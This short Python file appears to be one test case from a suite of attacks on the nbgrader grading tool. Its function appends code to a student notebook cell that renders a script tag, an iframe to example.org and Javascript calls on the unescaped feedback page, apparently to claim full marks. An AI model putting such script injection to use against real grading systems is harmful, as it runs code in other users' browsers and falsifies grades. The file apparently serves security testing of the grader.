"""Shows scripts, frames and pages that load others, for whoever reads its notebook.

From: nbgrader, unescaped in the feedback page
Earns: all
"""


def tamper(folder, nb, course):
    (cell,) = [cell for cell in nb.cells if cell.id == "whole_word_groups"]
    cell.source += (
        "\nfrom IPython.display import HTML, Javascript, display"
        "\ndisplay(HTML('<script>won()</script><iframe src=//example.org>'), Javascript('won()'))"
        "\ndisplay({'application/javascript': 'won()', 'application/x-won': 'won()'}, raw=True)"
    )
